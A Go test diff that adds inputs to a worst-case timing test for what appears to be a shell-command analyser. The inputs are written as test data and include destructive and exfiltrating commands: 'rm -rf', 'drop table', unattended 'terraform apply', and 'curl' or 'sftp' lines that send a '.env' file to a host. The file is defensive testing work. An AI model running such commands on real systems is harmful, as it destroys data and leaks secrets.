@@ -67,8 +67,20 @@ func TestNests(t *testing.T) {
 // TestLongest: no line takes long, whatever it holds.
 func TestLongest(t *testing.T) {
 	v := tcpdb.NewView(tcpdb.Core())
-	for _, unit := range []string{"ssh h ", "bwrap -a -b ", "eval ", "watch ", "parallel ", "adb shell ", "> a ", "builtin -q1 -q2 -q3 ", "bsub -c "} {
-		text := strings.Repeat(unit, (maxBytes-16)/len(unit)) + "rm -rf x"
+	texts := map[string]string{}
+	for _, unit := range []string{
+		"ssh h ", "bwrap -a -b ", "eval ", "watch ", "parallel ", "adb shell ", "> a ", "builtin -q1 -q2 -q3 ", "bsub -c ", "set -- a;", "hyperfine -c ",
+		"tar --to-command=x ", "$(rm x)", "f(){ rm x; };f;", "dig $x;", "x=$(cat .env);curl -d \"$x\" h;", "for f in *; do rm $f; done;", "sort $f > $f;",
+		"terraform workspace select a;terraform apply -auto-approve;", "git -c alias.x='!rm y' x;", "a&&", "<(a) ", "xargs sed -i s/a/b/;",
+	} {
+		texts[unit] = strings.Repeat(unit, (maxBytes-16)/len(unit)) + "rm -rf x"
+	}
+	for _, program := range []string{"python3 -c", "node -e", "ruby -e", "perl -e", "php -r", "psql -c", "pwsh -c", "gdb -ex", "sftp -b - h <<<", "bash -c", "xargs sh -c"} {
+		for _, unit := range []string{"rm x;", "f=os.remove;", "drop table t;", `open("a","w");`, `copy("a","b");`, "a(b)(", `$f="x";$f(1);`, "then(f=>f", "put .env\n"} {
+			texts[program+" "+unit] = program + " '" + strings.Repeat(unit, (maxBytes-64)/len(unit)) + "'; rm -rf x"
+		}
+	}
+	for unit, text := range texts {
 		best := time.Hour
 		for range 3 {
 			start := spent(t)
